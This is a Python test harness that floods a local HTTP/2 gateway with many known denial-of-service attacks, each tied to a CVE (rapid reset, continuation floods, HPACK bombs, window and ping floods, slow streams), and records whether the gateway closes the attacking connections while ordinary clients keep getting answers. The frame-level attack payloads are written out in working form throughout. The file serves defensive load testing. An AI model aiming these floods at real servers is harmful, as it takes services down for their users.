"""Floods of HTTP/2, each by several attackers that come again when they are closed.

`python3 h2_attackers.py PORT PORT_OF_HOSTILE_UPSTREAMS` reads lines of an index into FLOODS, seconds, and bytes a
second for all of them together (0: as fast as they can), and answers each with a line of JSON: what the attack came
to. A process of its own that takes only what the others leave of the processor: attackers have machines of theirs."""

import dataclasses
import itertools
import json
import os
import socket
import sys
import threading
import time
import typing

from h2_flood_origin import KEY, WRONG_KEY
from h2_hostile import BYTES_OF_A_CONNECTION, LASTING, Hostile, Upstreams, ask

from h2_rules import head, number, reset_frame, setting, upload
from h2_wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
                     SETTINGS, WINDOW_UPDATE, frame, literal, request_block)

ATTACKERS = 10
STRANGERS = 3  # Every third has a wrong key: what it asks for may not come to the origin.
GREETING = PREFACE + frame(SETTINGS)
PIECE = 32 * 1024
PACED_PIECE = 1250
ENDLESS = 1 << 30
WITH_KEY = ("apikey", KEY)


def again(frames):
  """The same frames in pieces of about PIECE bytes, without end."""
  piece = frames * max(1, PIECE // len(frames))
  return lambda: (piece for _ in range(ENDLESS))


def streams(make, first=1, group=100, count=4000):
  """What `make(stream)` says for one stream after another, in groups; made before, so that it costs the victims
  nothing."""
  pieces = [b"".join(make(stream) for stream in range(begin, begin + 2 * group, 2))
            for begin in range(first, 2 * count, 2 * group)]
  return lambda: pieces


def attack_head(stream, *fields, **pseudo):
  return head(stream, WITH_KEY, *fields, **{"path": "/attack", **pseudo})


def attack_upload(stream, *fields, path="/attack/held"):
  return upload(stream, WITH_KEY, *fields, path=path)


def upload_then(frames):
  return GREETING + attack_upload(1), again(frames)


def bomb(field, size=4000):
  """Sections whose every byte stands for a field of `size` bytes."""
  entry = b"\x40" + literal(field, "v" * size)[1:]
  first = GREETING + frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(WITH_KEY, path="/attack") + entry)
  bytes_of_it = request_block(WITH_KEY, path="/attack") + b"\xbe" * 15_000
  return first, streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, bytes_of_it), first=3, group=2,
                        count=200)


def storm(stream):
  """A hundred streams, reset in reverse."""
  group = range(stream, stream + 200, 2)
  return b"".join(attack_head(each) for each in group) + b"".join(reset_frame(each) for each in reversed(group))


def window_pieces():
  """A large answer in single bytes."""
  yield attack_head(1, path="/attack/large")
  for _ in range(ENDLESS):
    yield frame(WINDOW_UPDATE, 0, 1, number(1)) * 16


def no_window():
  yield b"".join(attack_head(stream, path="/attack/large") for stream in range(1, 201, 2))


def compression_errors():
  yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block() + b"\x3f\xff\xff\xff\x0f")


def slow_sections():
  """One section, byte by byte."""
  yield attack_head(1, flags=END_STREAM) + frame(CONTINUATION, 0, 1, literal("a", "b" * 16_000))[:20]
  for _ in range(ENDLESS):
    yield b"b"


def slow_upload():
  yield b"".join(attack_upload(stream, ("content-length", "1000")) for stream in range(1, 201, 2))
  for _ in range(ENDLESS):
    yield frame(DATA, 0, 1, b"x")


STORM = [storm(begin) for begin in range(1, 8001, 200)]
EMPTY, PONG = frame(DATA, 0, 1), frame(PING, payload=b"12345678")
SMALL_SECTION = GREETING + attack_head(1, flags=END_STREAM)
ABANDONED = GREETING + attack_upload(1) + reset_frame(1)

# The scripts, by the numbers under which tests, tables and the log of this test name them.
SCRIPTS = {
    "2.1": "ping flood (CVE-2019-9512)",
    "2.2": "settings flood (CVE-2019-9515)",
    "2.3": "reset flood: heads that must be reset (CVE-2019-9514)",
    "2.4": "rapid reset (CVE-2023-44487)",
    "2.5": "made you reset (CVE-2025-8671)",
    "2.6": "data dribble (CVE-2019-9511, CVE-2019-9517)",
    "2.7": "windows that never open (CVE-2019-9517)",
    "2.8": "flood of empty frames (CVE-2019-9518)",
    "2.9": "priority churn (CVE-2019-9513)",
    "2.10": "window update flood",
    "2.11": "continuation flood (CVE-2024-27316 and its like)",
    "2.12": "HPACK bomb (CVE-2016-6581, CVE-2026-47774)",
    "2.13": "sections that are no HPACK",
    "2.14": "abuse of stream numbers",
    "2.15": "abuse of settings",
    "2.16": "hostile upstream",
    "2.17": "slow streams",
    "2.18": "frames of unknown types",
}


@dataclasses.dataclass(frozen=True)
class Flood:
  """One way to play a script. Each connection begins with `first` and then sends what `frames()` gives; `closes` says
  whether the gateway must close it. `hostile` are upstreams that do so instead, and clients that ask them."""

  script: str
  what: str
  first: bytes = b""
  frames: typing.Callable = None
  closes: bool = True
  pause: float = 0.0
  hostile: Hostile = None

  def __str__(self):
    return f"{self.script} {self.what}"


FLOODS = (
    Flood("2.1", "pings", GREETING, again(PONG)),
    Flood("2.2", "settings", GREETING, again(frame(SETTINGS))),
    Flood("2.2", "settings of 2,400 entries", GREETING, again(frame(SETTINGS, payload=b"\0\4\0\0\xff\xff" * 2400))),
    Flood("2.3", "heads that are reset", GREETING, streams(lambda at: attack_head(at, ("X-Upper", "1")))),
    Flood("2.4", "rapid reset", GREETING, streams(lambda at: attack_head(at) + reset_frame(at))),
    Flood("2.5", "windows of 0", GREETING, streams(
        lambda at: attack_head(at) + frame(WINDOW_UPDATE, 0, at, number(0)))),
    Flood("2.5", "windows that overflow", GREETING, streams(
        lambda at: attack_head(at) + frame(WINDOW_UPDATE, 0, at, number((1 << 31) - 1)))),
    Flood("2.5", "data behind the end", GREETING, streams(
        lambda at: attack_head(at) + frame(DATA, END_STREAM, at, b"x"))),
    Flood("2.5", "streams that depend on themselves", GREETING, streams(
        lambda at: attack_head(at) + frame(PRIORITY, 0, at, number(at) + b"\1"))),
    Flood("2.5", "wrong lengths", GREETING, streams(
        lambda at: attack_upload(at, ("content-length", "1"), path="/attack") + frame(DATA, END_STREAM, at, b"xy"))),
    Flood("2.6", "single bytes of a window", PREFACE + setting((4, 1)), window_pieces),
    Flood("2.7", "windows that never open", PREFACE + setting((4, 0)), no_window, closes=False),
    Flood("2.8", "empty data", *upload_then(EMPTY)),
    Flood("2.8", "data of padding alone", *upload_then(frame(DATA, 8, 1, b"\3\0\0\0"))),
    Flood("2.8", "empty continuations", SMALL_SECTION, again(frame(CONTINUATION, 0, 1))),
    Flood("2.9", "priorities", GREETING, again(frame(PRIORITY, 0, 3, b"\0\0\0\1\x10"))),
    Flood("2.10", "windows of the connection", GREETING, again(frame(WINDOW_UPDATE, 0, 0, number(1)))),
    Flood("2.10", "windows of a stream", *upload_then(frame(WINDOW_UPDATE, 0, 1, number(1)))),
    Flood("2.11", "continuations of a byte", SMALL_SECTION, again(frame(CONTINUATION, 0, 1, b"\x82"))),
    Flood("2.11", "continuations of 16 KiB", SMALL_SECTION,
          again(frame(CONTINUATION, 0, 1, literal("a", "b" * 16_300)))),
    Flood("2.12", "bytes that stand for large fields", *bomb("x-bomb")),
    Flood("2.12", "bytes that stand for cookies", *bomb("cookie")),
    Flood("2.12", "bytes that stand for crumbs of cookies", *bomb("cookie", 1)),
    Flood("2.13", "integers that overflow", GREETING, compression_errors),
    Flood("2.14", "storms of streams", GREETING, lambda: STORM),
    # Dropped, whatever they are: RFC 9113 §5.1. What they cost is their bytes.
    Flood("2.14", "heads on closed streams", ABANDONED, again(attack_head(1)), closes=False),
    Flood("2.14", "data on closed streams", ABANDONED, again(EMPTY), closes=False),
    Flood("2.15", "tables that grow and shrink", GREETING, streams(
        lambda at: setting((1, 0)) + setting((1, 0xffffffff)) + head(at, path="/nowhere"))),
    *(Flood("2.16", what, hostile=hostile, closes=hostile.closes) for what, hostile in LASTING.items()),
    Flood("2.17", "sections that never end", GREETING, slow_sections, closes=False, pause=0.02),
    Flood("2.17", "uploads that never end", GREETING, slow_upload, closes=False, pause=0.02),
    Flood("2.18", "frames that nobody knows", GREETING, again(frame(0x16, 0, 0)), closes=False),
)
NEIGHBOUR = -1  # Instead of an index: no flood, but clients that are as busy as the rules allow.


class Pace:
  """Holds all attackers together to so many bytes a second; 0 is no limit."""

  def __init__(self, rate, until):
    self.rate, self.until, self.begun = rate, until, time.monotonic()
    self.sent = 0
    self.lock = threading.Lock()

  def wait(self, size):
    """Until that much more may have been sent. False once the time is over."""
    with self.lock:
      self.sent += size
      due = self.begun + self.sent / self.rate if self.rate else 0
    late = due - time.monotonic()
    if late > 0:
      time.sleep(min(late, max(0.0, self.until - time.monotonic())))
    return time.monotonic() < self.until


class Attack:
  """Attackers who connect again once they are closed, and never read before they have said all."""

  def __init__(self, port, seconds, rate):
    self.port, self.until = port, time.monotonic() + seconds
    self.pace = Pace(rate, self.until)
    self.closed = 0
    self.asked = 0

  def count_closed(self, ended):
    with self.pace.lock:
      self.closed += ended

  def send(self, connection, data):
    """False once the time is over."""
    step = PACED_PIECE if self.pace.rate else len(data) or 1
    for at in range(0, len(data), step):
      piece = data[at:at + step]
      if not self.pace.wait(len(piece)):
        return False
      connection.sendall(piece)
    return True

  def together(self, run):
    """What `run(which)` does until the time is over, by each attacker."""
    def attacker(which):
      while time.monotonic() < self.until:
        try:
          run(which)
        except OSError:
          time.sleep(0.001)

    threads = [threading.Thread(target=attacker, args=(which,), daemon=True) for which in range(ATTACKERS)]
    for thread in threads:
      thread.start()
    for thread in threads:
      thread.join()

  def flood(self, flood):
    def run(which):
      if not self.pace.wait(BYTES_OF_A_CONNECTION):
        return
      with socket.create_connection(("127.0.0.1", self.port), timeout=1.0) as connection:
        self.count_closed(self.pour(connection, flood, which % STRANGERS == STRANGERS - 1))

    self.together(run)

  def pour(self, connection, flood, is_stranger):
    """Whether the gateway closed the connection."""
    try:
      for piece in itertools.chain([flood.first], flood.frames()):
        if is_stranger:
          piece = piece.replace(KEY.encode(), WRONG_KEY.encode())
        if not self.send(connection, piece):
          return False
        if flood.pause:
          time.sleep(flood.pause)
      # All that one connection may say: what comes is read to its end.
      connection.settimeout(max(0.01, self.until - time.monotonic()))
      while connection.recv(65536):
        pass
      return True
    except TimeoutError:
      return False
    except OSError:
      return True

  def hostile(self, upstreams, hostile):
    """Clients who mean well ask for what an upstream answers that does not."""
    upstreams.attack, upstreams.hostile = self, hostile
    request = b"GET /hostile HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"

    def run(_):
      self.asked += 1
      if self.pace.wait(BYTES_OF_A_CONNECTION):
        ask(self, request)

    self.together(run)

  def neighbours(self):
    def run(_):
      with socket.create_connection(("127.0.0.1", self.port), timeout=1.0) as connection:
        connection.sendall(GREETING)
        for first in range(1, 100_000, 100):
          if not self.ask_fifty(connection, first):
            return

    self.together(run)

  def ask_fifty(self, connection, first):
    """Fifty requests at once, and their answers; False once the time is over."""
    group = b"".join(attack_head(at) for at in range(first, first + 100, 2))
    if not self.send(connection, group + frame(WINDOW_UPDATE, 0, 0, number(50 * len("/attack")))):
      return False
    data, ended = b"", 0
    while ended < 50:
      more = connection.recv(65536)
      if not more:
        raise ConnectionResetError("a neighbour who means well was closed")
      data, at = data + more, 0
      while len(data) >= at + 9 and len(data) >= at + 9 + (size := int.from_bytes(data[at:at + 3], "big")):
        if data[at + 3] == RST_STREAM:
          raise ConnectionResetError("a request of a neighbour who means well was reset")
        ended += data[at + 3] in (DATA, HEADERS) and data[at + 4] & END_STREAM
        at += 9 + size
      data = data[at:]
    self.asked += 50
    return True


def main(port, hostile_port):
  os.nice(19)
  upstreams = Upstreams(int(hostile_port))
  for line in sys.stdin:
    index, seconds, rate = line.split()
    attack = Attack(int(port), float(seconds), float(rate))
    if int(index) == NEIGHBOUR:
      attack.neighbours()
    elif FLOODS[int(index)].hostile:
      attack.hostile(upstreams, FLOODS[int(index)].hostile)
    else:
      attack.flood(FLOODS[int(index)])
    print(json.dumps({"bytes": attack.pace.sent, "closed": attack.closed, "asked": attack.asked}), flush=True)


if __name__ == "__main__":
  main(*sys.argv[1:])
